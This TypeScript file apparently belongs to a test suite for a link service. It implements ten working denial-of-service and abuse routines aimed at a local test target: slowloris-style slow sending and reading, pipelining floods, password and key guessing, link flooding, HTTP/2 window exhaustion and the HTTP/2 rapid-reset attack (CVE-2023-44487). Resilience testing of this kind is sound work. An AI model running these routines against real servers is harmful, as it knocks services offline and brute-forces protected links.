import { Agent } from 'node:http'
import { type ClientHttp2Session, connect as connectHttp2, constants } from 'node:http2'
import { connect as connectTls } from 'node:tls'
import { random } from '../../support/random.ts'
import { exchange, openSocket } from './exchange.ts'
import { pause } from './pause.ts'
import { type AttackTally, countStatus, type Target } from './target.ts'

type AttackContext = {
  readonly target: Target
  /** The stranger's source address. */
  readonly from: string
  readonly tally: AttackTally
  /** Aborts actions that only hold a connection open. */
  readonly signal: AbortSignal
}

/** One action of a stranger, which ends by itself. */
type Attack = (context: AttackContext) => Promise<void>

const HOLD_MS = 10_000
const PIPELINED = 300
const FLOOD_VISITS = 500
const GUESSES = 20
const STREAMS = 100
const RESET_STREAMS = 1_000
const RESET_PAUSE_MS = 20
const LARGE_DOCUMENT = '/api/v1/openapi.json'

function pick<T>(values: readonly T[]): T {
  return values[Math.floor(random() * values.length)] as T
}

function randomCase(text: string): string {
  return [...text].map((c) => (random() < 0.5 ? c.toUpperCase() : c)).join('')
}

/** Requests a large document many times and reads nothing. */
const pipelineWithoutReading: Attack = async ({ target: { port }, from, signal }) => {
  const socket = openSocket(port, from)
  socket.pause()
  socket.write(`GET ${LARGE_DOCUMENT} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n`.repeat(PIPELINED))
  await pause(HOLD_MS, signal)
  socket.destroy()
}

/** Reads a large document at 256 B/s. */
const readSlowly: Attack = async ({ target: { port }, from, signal }) => {
  const socket = openSocket(port, from)
  socket.pause()
  socket.write(`GET ${LARGE_DOCUMENT} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n`)
  for (let second = 0; second < HOLD_MS / 1_000 && !signal.aborted; second += 1) {
    await pause(1_000, signal)
    socket.read(256)
  }
  socket.destroy()
}

/** Sends a header line every second and never ends the head. */
const sendSlowly: Attack = async ({ target: { port, host }, from, signal }) => {
  const socket = openSocket(port, from)
  socket.write(`GET / HTTP/1.1\r\nHost: ${host}\r\n`)
  for (
    let second = 0;
    second < HOLD_MS / 1_000 && socket.writable && !signal.aborted;
    second += 1
  ) {
    await pause(1_000, signal)
    socket.write(`X-${second}: ${'x'.repeat(200)}\r\n`)
  }
  socket.destroy()
}

const sendGarbage: Attack = async ({ target: { port }, from }) => {
  const socket = openSocket(port, from)
  socket.end(
    pick(['GET\r\n\r\n', '\u0016\u0003\u0001', 'POST / HTTP/1.1\r\nContent-Length: x\r\n\r\n']),
  )
  socket.resume()
  await new Promise((resolve) => socket.on('close', resolve))
}

const guessPassword: Attack = async ({ target, from, tally }) => {
  const status = await exchange({
    port: target.port,
    host: target.host,
    from,
    path: `/${target.protectedKey}`,
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: pick([`password=${random()}`, 'nonsense']),
  })
  countStatus(tally, 'guessPassword', status)
}

/** Requests keys that do not exist, and one that does in random letter cases. */
const guessKeys: Attack = async ({ target, from, tally, signal }) => {
  const { port, host, floodedKey } = target
  const agent = new Agent({ keepAlive: true, maxSockets: 1 })
  for (let nth = 0; nth < GUESSES && !signal.aborted; nth += 1) {
    const key = pick([random().toString(36).slice(2), `${randomCase(floodedKey)}${nth}`])
    countStatus(tally, 'guessKeys', await exchange({ port, host, from, path: `/${key}`, agent }))
  }
  agent.destroy()
}

/** Follows one link as fast as it is answered. Counts only complete redirects. */
const floodLink: Attack = async ({ target, from, tally, signal }) => {
  const { port, host, floodedKey } = target
  const agent = new Agent({ keepAlive: true, maxSockets: 1 })
  for (let nth = 0; nth < FLOOD_VISITS && !signal.aborted; nth += 1) {
    const status = await exchange({ port, host, from, path: `/${floodedKey}`, agent })
    countStatus(tally, 'floodLink', status)
    if (status === 302) tally.floodRedirects += 1
  }
  agent.destroy()
}

function openSession(target: Target, from: string, initialWindowSize?: number): ClientHttp2Session {
  const transport = openSocket(target.httpsPort, from)
  const socket = connectTls({
    socket: transport,
    servername: target.serviceHost,
    ALPNProtocols: ['h2'],
    // The certificate comes from the test's own authority, and nothing secret is sent.
    rejectUnauthorized: false,
  })
  socket.on('error', () => {})
  const session = connectHttp2(`https://${target.serviceHost}`, {
    createConnection: () => socket,
    ...(initialWindowSize !== undefined && { settings: { initialWindowSize } }),
  })
  session.on('error', () => {})
  return session
}

/** Requests a large document on a hundred streams whose windows stay closed. */
const closeWindows: Attack = async ({ target, from, signal }) => {
  const session = openSession(target, from, 0)
  for (let nth = 0; nth < STREAMS && !session.destroyed; nth += 1) {
    session.request({ ':path': LARGE_DOCUMENT }).on('error', () => {})
  }
  await pause(HOLD_MS, signal)
  session.destroy()
}

/** Opens streams and resets them at once (CVE-2023-44487). */
const resetRapidly: Attack = async ({ target, from, signal }) => {
  const session = openSession(target, from)
  for (let nth = 0; nth < RESET_STREAMS && !session.destroyed; nth += 1) {
    const stream = session.request({ ':path': LARGE_DOCUMENT })
    stream.on('error', () => {})
    stream.close(constants.NGHTTP2_CANCEL)
    if (nth % STREAMS === 0) await pause(RESET_PAUSE_MS, signal)
  }
  session.destroy()
}

const holdIdleConnections: Attack = async ({ target: { port }, from, signal }) => {
  const sockets = Array.from({ length: 20 }, () => openSocket(port, from))
  await pause(HOLD_MS, signal)
  for (const socket of sockets) socket.destroy()
}

export const STRANGER_ATTACKS: Readonly<Record<string, Attack>> = {
  pipelineWithoutReading,
  readSlowly,
  sendSlowly,
  sendGarbage,
  guessPassword,
  guessKeys,
  floodLink,
  closeWindows,
  resetRapidly,
  holdIdleConnections,
}
